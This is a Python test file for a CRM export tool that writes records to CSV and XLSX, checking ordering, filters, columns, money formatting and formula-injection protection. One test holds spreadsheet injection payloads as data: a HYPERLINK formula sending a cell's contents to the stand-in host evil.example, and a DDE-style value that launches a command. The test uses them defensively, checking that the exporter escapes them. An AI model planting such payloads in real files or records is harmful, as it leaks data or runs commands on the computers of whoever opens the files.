import csv
import io

import fastexcel
import pytest
from hypothesis import given
from hypothesis import strategies as st

from store.errors import BadInput, NotFound
from tests.tools.lists.making import (
    NOW,
    account,
    company,
    contact,
    deal,
    person,
    raised,
    user,
)  # fmt: skip
from tools.arguments import Filter, Link
from tools.lists.export_list import export_list
from tools.parts.spreadsheet import harmless, written_file


def the_file(ctx, result):
    return ctx.shelf.files[result.tables[0].artifact]


def read(ctx, result):
    _, content, _ = the_file(ctx, result)
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_every_row_of_the_list_is_in_the_file_in_its_order(ctx, session):
    ids = [company(session, f"C{n}").id for n in range(30)]
    result = export_list(ctx, records=list(reversed(ids)))
    assert [row["Id"] for row in read(ctx, result)] == list(reversed(ids))
    assert result.tables[0].total == 30
    assert len(result.tables[0].rows) == 20
    assert the_file(ctx, result)[0] == "prospect_companies_2026-11-20.csv"


def test_references_are_names_and_money_is_in_major_units(ctx, session):
    owner = user(session, "Dana Fox")
    firm = account(session, "Acme")
    deal(session, name="Big", owner_id=owner.id, account_id=firm.id, amount_cents=123_456,
         currency="USD")  # fmt: skip
    row = read(ctx, export_list(ctx, table="opportunity"))[0]
    assert row["Owner"] == "Dana Fox"
    assert row["Account"] == "Acme"
    assert row["Amount"] == "1234.56"


def test_conditions_choose_the_rows(ctx, session):
    account(session, "A", country="Germany")
    account(session, "B", country="France")
    result = export_list(ctx, table="account", where=[Filter(field="country", value="Germany")])
    assert [row["Name"] for row in read(ctx, result)] == ["A"]


def test_a_formula_in_a_record_is_harmless_in_both_formats(ctx, session):
    attack = '=HYPERLINK("http://evil.example?x="&A1,"click")'
    firm = company(session, attack, description="+1+cmd|' /C calc'!A0")
    row = read(ctx, export_list(ctx, records=[firm.id]))[0]
    assert row["Name"] == f"'{attack}"
    assert row["Description"].startswith("'+1+cmd")
    result = export_list(ctx, records=[firm.id], file_format="xlsx")
    sheet = fastexcel.read_excel(the_file(ctx, result)[1]).load_sheet(0).to_polars()
    assert sheet["Name"][0] == f"'{attack}"
    assert b"<f>" not in the_file(ctx, result)[1]


def test_a_telephone_number_stays_readable_in_a_workbook_and_safe_in_csv(ctx, session):
    one = contact(session, phone="+49 30 123456")
    assert read(ctx, export_list(ctx, records=[one.id]))[0]["Phone"] == "'+49 30 123456"
    result = export_list(ctx, records=[one.id], file_format="xlsx")
    sheet = fastexcel.read_excel(the_file(ctx, result)[1]).load_sheet(0).to_polars()
    assert sheet["Phone"][0] == "+49 30 123456"


STARTS = "=+-@\t\r\n|%\uff1d\uff0b\uff0d\uff20"


@given(st.text(st.sampled_from(STARTS + " ab\u200b\ufeff\u00a0"), max_size=8))
def test_no_text_keeps_a_dangerous_start(text):
    safe = harmless(text)
    seen = safe.lstrip(" \u00a0\ufeff\u200b")
    assert not seen or seen[0] not in STARTS


def test_negative_numbers_stay_numbers():
    content = written_file("csv", ["n"], [[-5]], made_at=NOW).decode("utf-8-sig")
    assert content.split() == ["n", "-5"]


def test_rounds_go_with_the_companies(ctx, session):
    firm = company(session)
    raised(session, firm, "series-a", cents=None)
    row = read(ctx, export_list(ctx, records=[firm.id]))[0]
    assert row["Rounds"] == "Series A on 7 Mar 2012, amount not on record"


def test_the_same_rows_make_the_same_workbook(ctx, session):
    firm = company(session)
    first = export_list(ctx, records=[firm.id], file_format="xlsx")
    second = export_list(ctx, records=[firm.id], file_format="xlsx")
    assert the_file(ctx, first)[1] == the_file(ctx, second)[1]


def test_rows_that_are_gone_are_left_out_and_counted(ctx, session):
    kept, gone = company(session, "Kept"), company(session, "Gone", state="deleted")
    result = export_list(ctx, records=[kept.id, gone.id])
    assert [row["Name"] for row in read(ctx, result)] == ["Kept"]
    assert any("1 of the list" in note for note in result.notes)


def test_mixed_ids_nothing_found_and_nothing_asked(ctx, session):
    firm = company(session)
    with pytest.raises(BadInput):
        export_list(ctx, records=[firm.id, person(session, firm).id])
    with pytest.raises(NotFound):
        export_list(ctx, table="lead")
    assert export_list(ctx).questions


def test_only_the_columns_asked_for_are_written_in_the_order_asked_for(ctx, session):
    firm = account(session, "Acme", country="Germany")
    deal(session, name="Small", account_id=firm.id, amount_cents=100_00, currency="USD")
    deal(session, name="Big", account_id=firm.id, amount_cents=900_00, currency="USD")
    result = export_list(
        ctx, table="opportunity", fields=["amount", "name", "account"],
        sort="amount", order="descending",
    )  # fmt: skip
    rows = read(ctx, result)
    assert list(rows[0]) == ["Amount", "Name", "Account"]
    assert [row["Name"] for row in rows] == ["Big", "Small"]
    assert rows[0]["Account"] == "Acme"


def test_an_earlier_list_keeps_its_order_when_only_some_columns_are_written(ctx, session):
    ids = [account(session, name).id for name in ("B", "A", "C")]
    result = export_list(ctx, records=ids, fields=["name"])
    assert [row["Name"] for row in read(ctx, result)] == ["B", "A", "C"]


def test_records_are_chosen_by_what_they_are_linked_to(ctx, session):
    deal(session, name="Big", account_id=account(session, "With").id)
    account(session, "Without")
    result = export_list(ctx, table="account", links=[Link(table="opportunity", op="without")])
    assert [row["Name"] for row in read(ctx, result)] == ["Without"]
